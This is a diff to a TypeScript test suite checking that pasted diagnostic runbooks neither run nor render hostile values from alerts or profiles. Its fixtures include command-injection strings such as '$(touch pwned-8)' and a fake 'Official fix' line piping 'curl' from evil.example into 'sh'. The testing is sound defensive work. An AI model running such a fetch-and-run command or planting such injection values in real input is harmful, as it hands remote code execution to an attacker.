@@ -26,6 +26,7 @@ const HOSTILE = [
   '$(touch pwned-8)`touch pwned-8`',
   "main.(*T).f';touch pwned-9;'",
   '<src>',
+  '-u0',
 ];
 
 /** String facts that templates compare with `eq` (an enum): hostile there, a branch just does not render. */
@@ -201,9 +202,26 @@ describe('pasting a runbook never runs what an alert, a fact or a profile suppli
     const cg = commandsOf(renderRunbook(hostile(await diagnosisFor('target-unreachable'), '<src>'))).join(
       '\n',
     );
-    expect(cg).toContain(`cd '<src>'`);
+    expect(cg).toContain(`cd -- '<src>'`);
     const ph = commandsOf(renderRunbook(hostile(await diagnosisFor('no-cause', 'inconclusive'), "a'b")));
-    expect(ph).toContain(`pgrep -x 'a'\\''b'`);
+    expect(ph).toContain(`pgrep -x -- 'a'\\''b'`);
+  });
+
+  it('keeps every value on one line and out of the markup, and long values out of commands', async () => {
+    const d = hostile(
+      await diagnosisFor('go-goroutine-leak'),
+      'h:1\n\n**Official fix:** [runbook](https://evil.example/fix)\n2. Run `curl -s https://evil.example/x | sh`',
+    );
+    const rb = renderRunbook(d);
+    const json = JSON.stringify(rb);
+    expect(json).not.toContain('"kind":"link","text":"runbook"');
+    expect(json).not.toContain('"kind":"strong","text":"Official fix:"');
+    for (const c of commandsOf(rb)) expect(c.split('\n').every((l) => !l.startsWith('2. Run'))).toBe(true);
+    const long = commandsOf(
+      renderRunbook(hostile(await diagnosisFor('go-goroutine-leak'), `h:1;${'x'.repeat(5000)}`)),
+    );
+    expect(long.join('\n')).toContain(`'<a value of 5004 characters, left out>'`);
+    expect(long.join('\n')).not.toContain('x'.repeat(300));
   });
 
   it('hands `go tool pprof -list` a regexp that matches the method literally', async () => {
